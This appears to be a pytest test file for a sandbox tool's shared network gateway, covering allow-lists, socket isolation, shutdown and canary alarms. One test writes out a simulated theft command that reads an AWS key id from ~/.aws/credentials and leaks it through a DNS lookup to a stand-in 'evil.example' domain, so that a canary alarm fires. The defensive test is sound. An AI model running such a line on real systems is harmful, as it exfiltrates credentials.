"""`paddock gateway`: one process for all sandboxes that start while it runs, and what is seen of it."""

from __future__ import annotations

import json
import os
import select
import signal
import subprocess
from argparse import Namespace
from typing import TYPE_CHECKING, Any

import pytest

from paddock.cli import gateway
from tests.background import one_message, running
from tests.boundary.field import wait_for
from tests.capabilities import needs
from tests.forked import forked

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import Person

pytestmark = needs("bubblewrap", "git")
CANARY = '[workspace]\ncanaries = ["aws"]\n[network]\nmode = "allow"\nallow = ["api.example.test"]\n'


@pytest.fixture
def process(person: Person) -> Iterator[subprocess.Popen[str]]:
    """`paddock gateway`, which serves."""
    with subprocess.Popen(
        person.argv("gateway"), env=person.environ, cwd="/", stderr=subprocess.PIPE, text=True
    ) as made:
        assert made.stderr
        assert made.stderr.readline().startswith("paddock: serving the networks of all sandboxes")
        yield made
        made.terminate()


def records(person: Person, repo: Path) -> list[list[dict[str, Any]]]:
    """The records that there are, each by its lines."""
    found = json.loads(person.call("log", "verify", "--json", cwd=repo).stdout)["logs"]
    lines = []
    for log in found:
        with open(log["path"], encoding="ascii") as file:
            lines.append([json.loads(line) for line in file])
    return lines


def serving(process: subprocess.Popen[str]) -> int:
    """The process that serves, below the command."""
    with open(f"/proc/{process.pid}/task/{process.pid}/children", encoding="ascii") as file:
        return int(file.read())


def test_runs_use_it_while_it_is_there_and_have_their_own_afterwards(
    person: Person, repo: Path, process: subprocess.Popen[str]
) -> None:
    words = ("run", "--allow", "api.example.test", "--", "getent", "hosts", "api.example.test", "evil.example.test")
    for _ in range(2):
        done = person.call(*words, cwd=repo)
        assert "198.18.1.1" in done.stdout
        assert "refused evil.example.test" in done.stderr
    process.send_signal(signal.SIGINT)
    assert process.wait(90) == 0
    assert not (person.home / "runtime/paddock/gateway").exists()
    assert "198.18.1.1" in person.call(*words, cwd=repo).stdout
    assert sorted(str(lines[0].get("gateway")) for lines in records(person, repo)) == ["None", "shared", "shared"]
    assert {lines[-1]["kind"] for lines in records(person, repo)} == {"closed"}


def test_ctrl_c_in_the_moment_in_which_it_says_that_it_serves_ends_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    monkeypatch.setattr(gateway, "complain", lambda _: signal.raise_signal(signal.SIGINT))
    assert forked(lambda: gateway.perform(Namespace()).text) == "ended\n"
    assert not (tmp_path / "paddock/gateway").exists()


def test_a_sandbox_cannot_ask_it_for_anything(person: Person, repo: Path, process: subprocess.Popen[str]) -> None:
    """Whoever can speak to it gets a network by rules of his own."""
    runtime = person.home / "runtime"
    script = f"""
import os, socket
def tries(where):
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as line:
        try: line.connect(where)
        except OSError as error: return type(error).__name__
        return "met"
place = {str(runtime / "paddock/gateway")!r}
print(tries(place), tries("\\0" + place), tries("/run/user/{os.getuid()}/paddock/gateway"))
print(any("gateway" in names for _, _, names in os.walk("/run")), open("/proc/net/unix").read().count("\\n"))
held = []
for descriptor in os.listdir("/proc/self/fd"):
    try: held.append(os.readlink("/proc/self/fd/" + descriptor))
    except OSError: pass
print(sum(name.startswith("socket:") for name in held))
"""
    done = person.call("run", "--allow", "api.example.test", "--", "/usr/bin/python3", "-c", script, cwd=repo)
    assert done.stdout.splitlines() == ["FileNotFoundError ConnectionRefusedError FileNotFoundError", "False 1", "0"]
    assert records(person, repo)[0][0]["gateway"] == "shared"


def test_a_kept_sandbox_ends_with_an_alarm(person: Person, repo: Path, process: subprocess.Popen[str]) -> None:
    (person.home / ".config/paddock").mkdir(mode=0o700, exist_ok=True)
    (person.home / ".config/paddock/policy.toml").write_text(CANARY)
    assert person.call("run", "--keep", "--name", "kept", "--", "true", cwd=repo).returncode == 0
    thief = "getent hosts $(sed -n 's/.*key_id = //p' ~/.aws/credentials).evil.example"
    person.call("exec", "kept", "--", "sh", "-c", thief, cwd=repo)
    wait_for(lambda: not list((person.home / "runtime/paddock/live").iterdir()))
    (lines,) = records(person, repo)
    assert (lines[0]["gateway"], lines[-1]["kind"]) == ("shared", "closed")
    assert [line["reason"] for line in lines if line["kind"] == "alarm"] == ["canary-aws was looked up as a name"]


def test_when_it_dies_sessions_and_its_own_terminal_say_so(
    person: Person, repo: Path, process: subprocess.Popen[str]
) -> None:
    script = "echo up; read line; getent hosts api.example.test || echo none"
    options = ("--allow", "api.example.test")
    with running(person, repo, *options, command=("sh", "-c", script)) as session:
        opened = os.pidfd_open(serving(process))
        os.kill(serving(process), signal.SIGKILL)
        assert select.select([opened], [], [], 60)[0]
        os.close(opened)
        said, told = session.communicate("go\n", timeout=60)
    assert said == "none\n"
    assert "network: the gateway died (signal 9); from then on the sandbox had none" in told
    assert process.stderr
    assert "the gateway died (signal 9)" in one_message(process.stderr.read())
    assert process.wait(90) == 125


def test_a_second_one_is_refused_and_help_says_what_is_shared(
    person: Person, repo: Path, process: subprocess.Popen[str]
) -> None:
    done = person.call("gateway", cwd=repo)
    assert done.returncode != 0
    assert "a gateway serves already" in one_message(done.stderr)
    said = " ".join(person.call("gateway", "--help", cwd=repo).stdout.split())
    assert "the secrets of all these sandboxes are in one process" in said
